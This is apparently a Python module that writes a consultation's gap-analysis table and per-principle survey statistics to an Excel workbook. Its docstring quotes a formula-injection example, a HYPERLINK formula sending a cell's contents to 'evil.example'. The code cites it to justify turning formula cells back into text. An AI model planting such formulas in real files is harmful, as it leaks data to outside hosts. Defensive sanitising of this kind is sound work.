"""The gap-analysis table and each principle's figures as an Excel workbook: same data, same bytes."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Mapping, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from openpyxl.writer.excel import ExcelWriter

from consult.analysis.chart_common import DimensionLabels, deterministic_zip, localised
from consult.gap.sanitize import html_to_text
from consult.gap.summary import (
    RATING_COLOURS,
    PrincipleEntry,
    document_date,
    min_group_size,
    principle_entries,
    rating_label,
    words,
)
from consult.gap.tsv import GapRow, Spelling

HEADER_FILL = PatternFill("solid", fgColor="37474F")
HEADER_FONT = Font(bold=True, color="FFFFFF")
TOP_WRAPPED = Alignment(wrap_text=True, vertical="top")
DARK_RATINGS = frozenset({"++", "--"})
GAP_COLUMNS = ("no", "principle", "rating", "respondents", "favourable", "gap", "initiatives")
GAP_WIDTHS = (6, 34, 18, 13, 12, 80, 80)
PERCENT = "0%"
TIMES = " \u00d7 "
ITEM_FIGURES = (
    ("mean", "0.00"),
    ("sd", "0.00"),
    ("favourable", PERCENT),
    ("ci_low", PERCENT),
    ("ci_high", PERCENT),
)


def gap_xlsx(
    results: Mapping[str, Any],
    rows: Sequence[GapRow],
    language: str,
    scale_labels: Sequence[str] | None = None,
    dimensions: DimensionLabels | None = None,
    spelling: Spelling = "compact",
) -> bytes:
    """A "Gap analysis" sheet (one row per principle), then one sheet of figures per surveyed principle."""
    workbook = Workbook()
    entries = principle_entries(results, rows, language, spelling)
    _write_gap_sheet(workbook.active, entries, language, spelling)
    for entry in entries:
        if entry.section is not None:
            sheet = workbook.create_sheet(_sheet_title(entry.code, workbook.sheetnames))
            _write_principle_sheet(sheet, entry, results, language, scale_labels, dimensions or {})
    text_cells_only(workbook)
    date = document_date(results)
    workbook.properties.created = workbook.properties.modified = date
    workbook.properties.creator = "Consult"
    workbook.properties.title = (
        f"{words(language)['title']} · {localised(results.get('campaign', {}).get('title'), language)}"
    )
    return _stable_bytes(workbook)


def text_cells_only(workbook: Workbook) -> None:
    """openpyxl stores any text beginning with ``=`` as a formula: a title, an option label or a reviewer's
    text such as ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` would run when the file is opened.
    This workbook holds no formula of its own, so every such cell is made a string cell again."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"


def _stable_bytes(workbook: Workbook) -> bytes:
    """openpyxl stamps every ZIP entry with the current time: the entries are rewritten with a fixed date."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        ExcelWriter(workbook, archive).write_data()
    with zipfile.ZipFile(buffer) as archive:
        return deterministic_zip((info.filename, archive.read(info)) for info in archive.infolist())


def _sheet_title(code: str, taken: Sequence[str]) -> str:
    title = re.sub(r"[\[\]:*?/\\]", "_", code)[:28] or "P"
    candidates = [title, *(f"{title}_{n}" for n in range(2, len(taken) + 3))]
    return next(candidate for candidate in candidates if candidate not in taken)


def _write_gap_sheet(
    sheet: Worksheet, entries: Sequence[PrincipleEntry], language: str, spelling: Spelling
) -> None:
    sheet.title = words(language)["title"]
    sheet.append([words(language)[column] for column in GAP_COLUMNS])
    for entry in entries:
        sheet.append(_gap_row(entry, language, spelling))
        _style_rating(sheet.cell(sheet.max_row, 3), entry)
        sheet.cell(sheet.max_row, 5).number_format = PERCENT
    _style_table(sheet, GAP_WIDTHS)


def _gap_row(entry: PrincipleEntry, language: str, spelling: Spelling) -> list[Any]:
    section = entry.section or {}
    rating = rating_label(entry, language, spelling)
    texts = [html_to_text(entry.gap_html), html_to_text(entry.initiatives_html)]
    return [entry.number, entry.name, rating, section.get("n"), section.get("favourable"), *texts]


def _style_table(sheet: Worksheet, widths: Sequence[int]) -> None:
    for column, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(column)].width = width
        header = sheet.cell(1, column)
        header.fill, header.font = HEADER_FILL, HEADER_FONT
    for row in sheet.iter_rows():
        for cell in row:
            cell.alignment = TOP_WRAPPED
    sheet.freeze_panes = "A2"


def _style_rating(cell: Any, entry: PrincipleEntry) -> None:
    if entry.rating is None:
        return
    cell.fill = PatternFill("solid", fgColor=RATING_COLOURS[entry.rating])
    colour = "FFFFFF" if entry.rating in DARK_RATINGS else "000000"
    cell.font = Font(bold=not entry.proposed, italic=entry.proposed, color=colour)


def _write_principle_sheet(
    sheet: Worksheet,
    entry: PrincipleEntry,
    results: Mapping[str, Any],
    language: str,
    scale_labels: Sequence[str] | None,
    dimensions: DimensionLabels,
) -> None:
    section = entry.section or {}
    sheet.append([f"{entry.code} · {entry.name}"])
    sheet.cell(1, 1).font = Font(bold=True, size=13)
    _write_key_figures(sheet, entry, language)
    sheet.append([])
    _write_items(sheet, section, language, scale_labels)
    for key, breakdown in (section.get("breakdowns") or {}).items():
        sheet.append([])
        _write_breakdown(sheet, key, breakdown, dimensions, language, min_group_size(results))
    sheet.column_dimensions["A"].width = 30
    for column in range(2, sheet.max_column + 1):
        sheet.column_dimensions[get_column_letter(column)].width = 12


def _weighted_rows(weighted: dict | None, said: dict) -> list[tuple]:
    """Weighted figures beside the unweighted ones, when the campaign has staff headcounts."""
    if not weighted:
        return []
    low, high = weighted.get("favourable_ci") or (None, None)
    tag = f" ({said['weighted']})"
    return [
        (said["favourable"] + tag, weighted.get("favourable"), PERCENT),
        (said["ci_low"] + tag, low, PERCENT),
        (said["ci_high"] + tag, high, PERCENT),
        (said["mean"] + tag, weighted.get("mean"), "0.00"),
    ]


def _write_key_figures(sheet: Worksheet, entry: PrincipleEntry, language: str) -> None:
    said = words(language)
    section = entry.section or {}
    rating = section.get("rating") or {}
    low, high = section.get("favourable_ci") or (None, None)
    figures = [
        (said["respondents"], section.get("n"), None),
        (said["favourable"], section.get("favourable"), PERCENT),
        (said["ci_low"], low, PERCENT),
        (said["ci_high"], high, PERCENT),
        (said["mean"], section.get("mean"), "0.00"),
        *_weighted_rows(section.get("weighted"), said),
        (said["alpha"], section.get("alpha"), "0.00"),
        (said["suggested"], rating.get("suggested"), None),
        (said["final"], rating.get("final") or (entry.row.rating if entry.row else None), None),
        (said["justification"], entry.justification, None),
        (said["suggested_reason"], entry.reason, None),
    ]
    for label, value, number_format in figures:
        sheet.append([label, value])
        sheet.cell(sheet.max_row, 1).font = Font(bold=True)
        if number_format:
            sheet.cell(sheet.max_row, 2).number_format = number_format


def _bold_row(sheet: Worksheet, values: list[Any]) -> None:
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        cell.font = Font(bold=True)


def _write_items(
    sheet: Worksheet, section: Mapping[str, Any], language: str, scale_labels: Sequence[str] | None
) -> None:
    said = words(language)
    items = section.get("items") or []
    points = len(items[0].get("counts", [])) if items else 0
    labels = list(scale_labels or [str(point) for point in range(1, points + 1)])
    _bold_row(
        sheet, [said["item"], "n", said["dont_know"], *labels, *(said[name] for name, _ in ITEM_FIGURES)]
    )
    for item in items:
        low, high = item.get("favourable_ci") or (None, None)
        figures = [item.get("mean"), item.get("sd"), item.get("favourable"), low, high]
        sheet.append([item["code"], item.get("n"), item.get("dont_know"), *item.get("counts", []), *figures])
        for offset, (_, number_format) in enumerate(ITEM_FIGURES):
            sheet.cell(sheet.max_row, 4 + len(labels) + offset).number_format = number_format


def _write_breakdown(
    sheet: Worksheet,
    key: str,
    breakdown: Mapping[str, Any],
    dimensions: DimensionLabels,
    language: str,
    k: int,
) -> None:
    said = words(language)
    codes = key.split(":")
    _bold_row(sheet, [TIMES.join(str(dimensions.get(code, {}).get("label", code)) for code in codes)])
    _bold_row(sheet, [said["group"], "n", said["mean"], said["favourable"]])
    for group in breakdown.get("groups", []):
        label = TIMES.join(
            _option(dimensions, code, option)
            for code, option in zip(codes, group["code"].split(":"), strict=False)
        )
        if group.get("suppressed"):
            sheet.append([label, said["fewer"].format(k=k)])
            continue
        sheet.append([label, group.get("n"), group.get("mean"), group.get("favourable")])
        sheet.cell(sheet.max_row, 3).number_format = "0.00"
        sheet.cell(sheet.max_row, 4).number_format = PERCENT
    if breakdown.get("test"):
        sheet.append([_test_summary(breakdown["test"], language)])


def _option(dimensions: DimensionLabels, dimension: str, option: str) -> str:
    return str(dimensions.get(dimension, {}).get("options", {}).get(option, option))


def _test_summary(test: Mapping[str, Any], language: str) -> str:
    said = words(language)
    parts = [
        f"{said['test']}: {test.get('name')}",
        f"{said['statistic']} = {test.get('statistic', 0):.2f}",
        f"{said['p']} = {test.get('p', 0):.3g}",
    ]
    if test.get("p_adjusted") is not None:
        parts.append(f"{said['p_adjusted']} = {test['p_adjusted']:.3g}")
    if test.get("effect_size") is not None:
        parts.append(f"{said['effect_size']} = {test['effect_size']:.2f}")
    return " · ".join(parts)
